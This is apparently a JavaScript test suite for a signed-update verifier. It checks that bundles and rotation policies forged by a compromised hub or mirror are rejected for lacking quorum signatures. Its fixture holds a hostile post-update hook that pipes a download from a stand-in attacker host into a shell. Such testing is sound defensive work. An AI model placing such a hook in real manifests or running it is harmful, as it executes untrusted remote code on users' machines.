// TUF: arbitrary installation attack. An attacker (a compromised hub or mirror) offers a bundle of its
// own making. Without the quorum's signatures nothing is installable, and the archive is never read.
import { expect } from 'chai';
import { verifyRotation } from '../../lib/core/rotation.js';
import { fixtures, makePolicy, policyDocument, envelopeBytes, POLICY_V2_EXPIRES } from './generate.js';
import { input, quorumProblems, quorumSignedBy, rejectionReasons, resigned, siteOptions, thrown, untouchable } from './support.js';

describe('Arbitrary installation attack', () => {
  const f = fixtures();
  const evil = { ...f.releaseA.manifest, postUpdate: [['sh', '-c', 'curl https://evil.example/x | sh']] };

  it('a bundle signed by no one: QUORUM_NOT_MET, archive never read', async () => {
    const env = resigned(evil, []);
    const reasons = await rejectionReasons({ ...input(env), archive: untouchable(f.releaseA.archive.length) }, siteOptions());
    expect(reasons.map((r) => r.code)).to.deep.equal(['QUORUM_NOT_MET']);
    expect(quorumProblems(reasons[0])).to.deep.equal([]);
    expect(quorumSignedBy(reasons[0])).to.deep.equal([]);
  });

  it('a bundle signed only by unknown keys (as many as the policy has signers): QUORUM_NOT_MET, every signature UNKNOWN_KEY', async () => {
    const env = resigned(evil, f.outsiders);
    const reasons = await rejectionReasons({ ...input(env), archive: untouchable(f.releaseA.archive.length) }, siteOptions());
    expect(reasons.map((r) => r.code)).to.deep.equal(['QUORUM_NOT_MET']);
    expect(quorumProblems(reasons[0])).to.deep.equal(['UNKNOWN_KEY', 'UNKNOWN_KEY', 'UNKNOWN_KEY', 'UNKNOWN_KEY', 'UNKNOWN_KEY']);
    expect(quorumSignedBy(reasons[0])).to.deep.equal([]);
  });

  it('the untouched release A re-signed only by unknown keys (its real signatures stripped): QUORUM_NOT_MET', async () => {
    const reasons = await rejectionReasons(input(resigned(f.releaseA.manifest, f.outsiders.slice(0, 3)), f.releaseA.archive), siteOptions());
    expect(reasons.map((r) => r.code)).to.deep.equal(['QUORUM_NOT_MET']);
    expect(quorumProblems(reasons[0])).to.deep.equal(['UNKNOWN_KEY', 'UNKNOWN_KEY', 'UNKNOWN_KEY']);
  });

  it("an attacker's own policy offered as the next rotation (self-signed by unknown keys): QUORUM_NOT_MET", () => {
    const theirs = makePolicy(2, 1, f.outsiders.slice(0, 1), POLICY_V2_EXPIRES);
    const doc = policyDocument(theirs, f.outsiders.slice(0, 1));
    const err = thrown(() => verifyRotation(f.trustedV1, envelopeBytes(doc)));
    expect(err.code).to.equal('QUORUM_NOT_MET');
    expect(err.details.side).to.equal('current');
  });

  it("an attacker's own policy offered as a policy document to verify: QUORUM_NOT_MET", async () => {
    const theirs = makePolicy(2, 1, f.outsiders.slice(0, 1), POLICY_V2_EXPIRES);
    const reasons = await rejectionReasons(input(policyDocument(theirs, f.outsiders.slice(0, 1))), siteOptions());
    expect(reasons.map((r) => r.code)).to.deep.equal(['QUORUM_NOT_MET']);
    expect(quorumProblems(reasons[0])).to.deep.equal(['UNKNOWN_KEY']);
  });
});
